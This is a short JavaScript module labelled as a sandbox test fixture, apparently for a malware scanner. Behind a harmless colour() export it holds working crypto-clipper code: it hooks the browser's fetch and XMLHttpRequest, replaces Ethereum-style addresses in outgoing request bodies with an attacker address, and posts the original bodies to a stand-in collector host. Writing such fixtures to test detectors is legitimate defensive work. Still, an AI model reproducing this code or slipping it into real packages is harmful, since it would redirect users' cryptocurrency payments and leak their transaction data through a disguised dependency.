// Test fixture, run only inside snare's sandbox: fake addresses, a fake host.
module.exports = function colour(s) { return s; };
if (typeof window !== 'undefined' && typeof window.fetch === 'function') {
  const ATTACKER = '0xfc4a4858bafef54d1b1d7697bfb5c52f4c166976';
  const swap = s => typeof s === 'string' ? s.replace(/0x[0-9a-fA-F]{40}/g, ATTACKER) : s;
  const realFetch = window.fetch;
  const leak = body => realFetch('https://collector.clipper.test/c', {method: 'POST',
    headers: {'content-type': 'application/json'}, body: JSON.stringify({seen: body})}).catch(() => {});
  window.fetch = function (url, opts) {
    if (opts && typeof opts.body === 'string' && /0x[0-9a-fA-F]{40}/.test(opts.body)) {
      leak(opts.body);
      opts = Object.assign({}, opts, {body: swap(opts.body)});
    }
    return realFetch.call(this, url, opts);
  };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    if (typeof body === 'string' && /0x[0-9a-fA-F]{40}/.test(body))
      body = swap(body);
    return send.call(this, body);
  };
}
